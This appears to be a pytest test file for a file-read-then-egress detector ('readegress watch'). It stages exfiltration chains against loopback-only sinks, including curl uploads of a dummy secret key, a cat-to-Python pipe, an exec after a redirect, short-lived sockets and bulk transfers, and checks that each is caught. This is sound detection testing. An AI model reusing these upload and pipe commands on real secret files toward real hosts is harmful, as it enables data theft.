"""Live attack chains on this machine, caught by ``readegress watch`` (no osquery).

One ``python -m readegress watch --json --egress-class loopback --sensitive FILE``
runs for the module (root: fanotify and sock_diag). Real processes read FILE
and send it to loopback servers of this test process (127.0.0.1 only): curl
uploads, a ``cat | python3`` pipeline, a shell ``<`` redirect that execs the
sender, a connection that lasts under 50 ms, and a socket opened before the
read that then carries over 1 MB. Each runs in its own ``sh`` under its own
session, so scenarios are not each other's lineage; each must be detected with
the right scope and ``bytes_sent`` at least what the server received. A read
alone, a connect alone and an upload of a non-catalogue file must not be.

Servers answer after a short delay (``Sink(delay=...)``) so that connections
last a few milliseconds, as real servers' do; how often connections shorter
than that are attributed is measured by ``test_sub_50ms_attribution_rate``.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from chain_peers import SENDER, Sink
from readegress.kernel.fanotify import DEFAULT_PERM_BUDGET
from scenarios import Watch

CURL = shutil.which("curl")
FILE_SIZE = 4096
ARMED_TIMEOUT = 20.0
DETECT_TIMEOUT = 10.0
QUIET_WAIT = 2.5

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="fanotify and sock_diag need root")

Detection = dict[str, Any]


@pytest.fixture(scope="module")
def area(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("chains")
    # Text that is not an HTTP method: the raw sink reads it to EOF.
    (d / "secret.key").write_bytes((b"-----secret key material-----\n" * 200)[:FILE_SIZE])
    (d / "notes.txt").write_bytes(b"hello\n")
    (d / "sender.py").write_text(SENDER)
    return d


@pytest.fixture(scope="module")
def secret(area: Path) -> str:
    return str(area / "secret.key")


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with Sink(delay=0.02) as s:
        yield s


@pytest.fixture(scope="module")
def http() -> Iterator[Sink]:
    with Sink(http=True, delay=0.02) as s:
        yield s


@pytest.fixture(scope="module")
def watch(secret: str, sink: Sink, http: Sink) -> Iterator[Watch]:
    # The servers exist first: the watch's first poll knows their listeners.
    w = Watch(["--egress-class", "loopback", "--sensitive", secret], ARMED_TIMEOUT)
    yield w
    rc = w.stop()
    assert rc == 0, w.stderr
    assert any(line.startswith("readegress: stopped:") for line in w.stderr), w.stderr


def sh(script: str) -> subprocess.Popen[str]:
    """``script`` in its own ``sh`` and session: not the lineage of any other scenario."""
    return subprocess.Popen(
        ["sh", "-c", script + "; exit $?"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )


def run(script: str, timeout: float = 30.0) -> tuple[str, float]:
    """Run a scenario; its stdout and the time it finished."""
    p = sh(script)
    out, err = p.communicate(timeout=timeout)
    assert p.returncode == 0, (script, out, err)
    return out, time.time()


def sender_report(out: str) -> dict[str, Any]:
    return json.loads(out.strip().splitlines()[-1])


def py(area: Path) -> str:
    return f"{sys.executable} {area / 'sender.py'}"


# ------------------------------------------------------------ chains detected


@pytest.mark.skipif(CURL is None, reason="curl is not installed (install/dev.sh installs it)")
@pytest.mark.parametrize("form", ["multipart", "data-binary"])
def test_curl_upload_is_detected_in_process_scope(
    watch: Watch, http: Sink, secret: str, form: str
) -> None:
    path = f"/curl-{form}"
    arg = f"-F file=@{secret}" if form == "multipart" else f"--data-binary @{secret}"
    run(f"{CURL} -s -o /dev/null -H Expect: {arg} http://127.0.0.1:{http.port}{path}")
    received = http.bytes_for(path)
    assert received is not None and received > FILE_SIZE
    _, d = watch.wait_for(lambda d: path in (d.get("cmdline") or ""))
    assert d["scope"] == "process" and d["reader_pid"] == d["pid"], d
    assert (d["path"], d["sensitive_class"]) == (secret, "cli_sensitive")
    assert (d["remote_address"], d["remote_port"]) == ("127.0.0.1", http.port)
    assert d["executable"].endswith("/curl") and d["file_size"] == FILE_SIZE
    assert d["read_source"] == "fanotify" and d["egress_source"] == "sock_diag"
    if d["egress_kind"] == "connect":
        # Every byte of a socket opened after the read: headers and body.
        assert d["bytes_sent"] >= received, (d, received)
    else:
        # curl -F may connect before it opens the file: then bytes since the read.
        assert d["egress_kind"] == "transfer" and d["bytes_sent"] >= FILE_SIZE, d
    assert "bytes_ge_file_size" in d["reasons"] and d["score"] >= 50


def test_cat_pipe_to_a_sender_is_a_pipeline_proven_by_its_pipe(
    watch: Watch, sink: Sink, area: Path, secret: str
) -> None:
    out, _ = run(f"cat {secret} | {py(area)} {sink.port} --stdin 1 --hold 0.02")
    rep = sender_report(out)
    _, d = watch.wait_for(lambda d: d["pid"] == rep["pid"])
    assert d["scope"] == "pipeline" and d["reader_pid"] != d["pid"], d
    assert {"pipe_shared", "reader_copies_file"} <= set(d["reasons"]), d
    assert d["reader_executable"].endswith("/cat")
    assert d["path"] == secret and d["remote_port"] == sink.port
    assert d["bytes_sent"] >= rep["sent"] == FILE_SIZE


def test_shell_redirect_then_exec_keeps_the_chain(
    watch: Watch, sink: Sink, area: Path, secret: str
) -> None:
    out, _ = run(f"exec {py(area)} {sink.port} --stdin 1 --hold 0.02 < {secret}")
    rep = sender_report(out)
    _, d = watch.wait_for(lambda d: d["pid"] == rep["pid"])
    # sh opened the file for the redirect, then exec'd python: one process.
    assert d["scope"] == "process" and d["reader_pid"] == d["pid"], d
    assert "exec_after_read" in d["reasons"]
    assert d["reader_executable"].rsplit("/", 1)[-1] in ("dash", "sh", "bash")
    assert d["executable"] != d["reader_executable"]
    assert "sender.py" in d["cmdline"] and not d["cmdline"].startswith("sh ")  # the new image's
    assert d["bytes_sent"] >= rep["sent"]


def test_connection_under_50ms_is_attributed_with_its_final_bytes(
    watch: Watch, sink: Sink, area: Path, secret: str
) -> None:
    for _ in range(5):  # a loaded machine may stretch one past 50 ms: run it again
        out, _ = run(f"{py(area)} {sink.port} --file {secret}")
        rep = sender_report(out)
        if rep["conn_s"] < 0.05:
            break
    assert rep["conn_s"] < 0.05, rep
    t, d = watch.wait_for(lambda d: d["pid"] == rep["pid"])
    assert d["scope"] == "process" and d["egress_kind"] == "connect"
    assert d["bytes_sent"] >= rep["sent"]  # from the destroy notification's final counters
    # No opener of the catalogue file waits much past the permission budget (the
    # watchdog answers then; a loaded machine may schedule the answer a little late).
    assert rep["open_s"] < DEFAULT_PERM_BUDGET + 0.05, rep
    print(f"egress close -> detection printed: {t - rep['closed']:.3f}s")


def test_long_lived_socket_carrying_1mb_after_the_read_is_a_transfer(
    watch: Watch, sink: Sink, area: Path, secret: str
) -> None:
    # Connected 0.3 s before the read (no full poll need see it: tcp_info tells
    # its age), idle since, then the file and 1 MiB after the read.
    out, _ = run(f"{py(area)} {sink.port} --early 0.3 --file {secret} --pad 1048576")
    rep = sender_report(out)
    _, d = watch.wait_for(lambda d: d["pid"] == rep["pid"] and d["egress_kind"] == "transfer")
    assert d["scope"] == "process", d
    assert d["bytes_sent"] >= rep["sent"] >= (1 << 20) + FILE_SIZE
    assert {"transfer_on_existing_socket", "bulk_transfer", "bytes_ge_file_size"} <= set(
        d["reasons"]
    )


# ------------------------------------------------------------ quiet ones


def test_read_alone_connect_alone_and_other_files_stay_quiet(
    watch: Watch, sink: Sink, http: Sink, area: Path, secret: str
) -> None:
    # Small sends only: an unrelated egress of this host by the same uid chains to
    # a read at user scope, which stays below the threshold without bulk bytes.
    started = time.time()
    run(f"tail -c +1 {secret} >/dev/null")  # reads the catalogue file, never connects
    out, _ = run(f"{py(area)} {sink.port} --data hello --hold 0.02")  # connects, never reads
    connect_only = sender_report(out)["pid"]
    other = f"/other-{os.getpid()}"
    if CURL:  # uploads a file that is not in the catalogue
        run(
            f"{CURL} -s -o /dev/null --data-binary @{area / 'notes.txt'} http://127.0.0.1:{http.port}{other}"
        )
    time.sleep(QUIET_WAIT)
    assert watch.find(lambda d: d["reader_executable"].endswith("/tail")) == []
    assert watch.find(lambda d: d["pid"] == connect_only) == []
    assert watch.find(lambda d: other in (d.get("cmdline") or "")) == []
    assert watch.find(lambda d: d["read_time"] >= started and d["path"] != secret) == []


# ------------------------------------------------------------ measured


def test_sub_50ms_attribution_rate(watch: Watch, sink: Sink, area: Path, secret: str) -> None:
    """20 readers that connect, send and close within 50 ms: how many are attributed."""
    tries, hits, latencies = 0, 0, []
    for _ in range(20):
        out, _ = run(f"{py(area)} {sink.port} --file {secret}")
        rep = sender_report(out)
        if rep["conn_s"] >= 0.05:
            continue  # a loaded machine stretched this one: not a sub-50 ms sample
        tries += 1
        try:
            t, _d = watch.wait_for(lambda d, pid=rep["pid"]: d["pid"] == pid, timeout=3.0)
        except AssertionError:
            continue
        hits += 1
        latencies.append(t - rep["closed"])
    latencies.sort()
    print(
        f"attributed {hits}/{tries} connections lasting <50 ms (server answers in 20 ms);"
        f" close -> printed median {latencies[len(latencies) // 2] if latencies else 0:.3f}s"
    )
    if tries < 10:
        pytest.skip(f"only {tries} of 20 connections lasted under 50 ms on this loaded machine")
    assert hits >= tries - 2


# ------------------------------------------------------------ the command itself


def test_json_lines_carry_replays_fields_and_the_text_line_reads_well(watch: Watch) -> None:
    from readegress.logs.replay import detection_json
    from readegress.service.detection_service import FinalDetection, detection_from_json
    from readegress.watch import detection_text

    _, d = watch.wait_for(lambda d: True)
    final = FinalDetection(detection_from_json({k: v for k, v in d.items() if k != "delay"}), 0.0)
    assert set(detection_json(final.detection)) <= set(d)
    for key in ("host", "pid", "executable", "path", "sensitive_class", "read_time",
                "egress_time", "remote_address", "remote_port", "scope", "score", "reasons",
                "bytes_sent", "detected_time", "start_time"):  # fmt: skip
        assert key in d, key
    line = detection_text(final)
    assert f"priority {d['priority']} score {d['score']} {d['scope']}: pid {d['pid']}" in line
    assert d["path"] in line
    assert f"127.0.0.1:{d['remote_port']}" in line and "\n" not in line


def test_sensitive_paths_are_matched_literally() -> None:
    from readegress.detect.config import load_config
    from readegress.watch import CLI_CLASS, UsageError, watch_config

    cfg, paths = watch_config(load_config(None), sensitive=["/tmp/a*b?{c,d}.key"])
    assert paths == ["/tmp/a*b?{c,d}.key"]
    cls = cfg.catalogue.match("/tmp/a*b?{c,d}.key")
    assert cls is not None and (cls.name, cls.level, cls.weight) == (CLI_CLASS, "high", 80)
    assert cfg.catalogue.match("/tmp/aXbYc.key") is None
    with pytest.raises(UsageError, match=r"'\['"):
        watch_config(load_config(None), sensitive=["/tmp/[x]"])


def test_usage_errors_exit_2_and_state_is_kept_only_with_state_dir(area: Path, secret: str) -> None:
    base = [sys.executable, "-m", "readegress", "watch"]
    bad = subprocess.run([*base, "--egress-class", "nowhere"], capture_output=True, text=True)
    assert bad.returncode == 2 and "unknown destination class 'nowhere'" in bad.stderr
    state = area / "state"
    p = subprocess.Popen(
        [*base, "--sensitive", secret, "--state-dir", str(state)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
    )  # fmt: skip
    assert p.stderr is not None
    assert p.stderr.readline().startswith("readegress: watching ")
    run(f"cat {secret} >/dev/null")  # an event: the state has something to keep
    time.sleep(0.6)
    p.send_signal(signal.SIGINT)
    _, err = p.communicate(timeout=20)
    assert p.returncode == 0, err
    assert "readegress: stopped:" in err
    assert os.stat(state).st_mode & 0o777 == 0o700
    saved = json.loads((state / "state.json").read_text())
    assert saved["format"] == "readegress-state" and saved["counters"]["native_events"] >= 1
